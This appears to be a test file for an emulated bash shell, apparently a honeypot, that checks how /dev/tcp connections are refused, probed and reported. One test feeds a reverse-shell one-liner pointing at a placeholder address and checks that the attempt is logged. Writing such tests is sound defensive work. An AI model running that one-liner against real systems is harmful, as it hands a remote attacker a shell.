import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS } from '../../../limits.ts';
import { startShell } from '../start-shell.ts';
import { createTestHost, runCommand } from '../test-shell.ts';

describe('connections by redirection', () => {
  it('are refused by ports that nothing listens on, in the words of bash', async () => {
    const run = await runCommand('echo x > /dev/tcp/127.0.0.1/1; echo $?; exec 3<>/dev/tcp/nosuchname/80');
    expect(run.stdout).toBe('1\n');
    expect(run.stderr).toBe(
      [
        'bash: connect: Connection refused',
        'bash: line 1: /dev/tcp/127.0.0.1/1: Connection refused',
        'bash: nosuchname: Name or service not known',
        'bash: line 1: /dev/tcp/nosuchname/80: Invalid argument\n',
      ].join('\n'),
    );
  });

  it('find the services of the machine, and say nothing', async () => {
    const run = await runCommand('exec 3<>/dev/tcp/127.0.0.1/22 && echo open; cat <&3; echo done');
    expect(run.stdout).toBe('open\ndone\n');
  });

  it('leave nothing for a reverse shell to talk to, and are reported', async () => {
    const requested: string[] = [];
    const shell = startShell({
      host: createTestHost(),
      username: 'root',
      mode: {
        kind: 'exec',
        command: Buffer.from('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; echo $?'),
        terminal: null,
      },
      environment: new Map(),
      output: { stdout: () => {}, stderr: () => {} },
      observer: {
        commandEntered: () => {},
        fileWritten: () => {},
        downloadRequested: ({ url }) => void requested.push(url),
        limitReached: () => {},
      },
      limits: DEFAULT_LIMITS.shell,
      clock: Date,
      random: { next: () => 0.5, bytes: (length) => new Uint8Array(length) },
    });
    shell.endInput();
    expect(await shell.exited).toEqual({ exitCode: 0, signal: null });
    expect(requested).toEqual(['tcp://203.0.113.9:4444']);
  });
});
